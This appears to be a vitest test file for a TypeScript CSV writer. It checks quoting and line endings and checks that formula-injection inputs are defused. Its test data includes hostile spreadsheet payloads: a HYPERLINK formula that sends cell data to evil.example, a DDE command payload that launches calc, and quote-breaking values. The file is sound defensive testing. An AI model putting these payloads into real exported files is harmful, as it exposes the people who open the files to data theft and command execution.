import { describe, expect, test } from "vitest";
import { csv } from "./csv.ts";

test("begins with a byte order mark, quotes every cell and ends lines as RFC 4180 has it", () => {
  expect(
    csv([
      ["Name", "From"],
      ["Noor", "2026-11-21"],
    ]),
  ).toBe('\uFEFF"Name","From"\r\n"Noor","2026-11-21"\r\n');
});

describe("a cell", () => {
  test.each([
    ["Lin Yue", '"Lin Yue"'],
    ["", '""'],
    ["박하나", '"박하나"'],
    ['Ada "the chair" Romero', '"Ada ""the chair"" Romero"'],
    ["Romero, Ada", '"Romero, Ada"'],
    ["Ada\nRomero", '"Ada\nRomero"'],
    ["Jean-Luc @ home = 1+1", '"Jean-Luc @ home = 1+1"'],
  ])("keeps %j", (name, written) => {
    expect(csv([[name]])).toBe(`\uFEFF${written}\r\n`);
  });

  test.each([
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
  ])("is no formula when it is %j", (hostile) => {
    const [, content = ""] = /^\uFEFF"(.*)"\r\n$/s.exec(csv([[hostile]])) ?? [];
    expect(content).toBe(`'${hostile.replaceAll('"', '""')}`);
  });

  test.each(['","=1+1', '";=1+1', '"\r\n=1+1'])("never ends before its own end: %j", (hostile) => {
    const written = csv([[hostile]]).slice(1, -2);
    expect(written.slice(1, -1).replaceAll('""', "")).not.toContain('"');
  });
});
